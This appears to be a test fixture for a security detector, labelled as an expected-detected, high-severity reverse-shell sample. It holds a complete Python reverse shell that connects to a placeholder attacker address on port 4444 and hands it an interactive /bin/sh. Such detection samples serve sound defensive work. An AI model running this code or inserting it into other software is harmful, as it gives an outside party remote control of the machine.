# expect: detected
# threat: 27 reverse shell
# at: either
# family: reverse-shell
# severity: high
# decision: stopped

import os
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.9", 4444))
for n in (0, 1, 2):
    os.dup2(s.fileno(), n)
subprocess.call(["/bin/sh", "-i"])
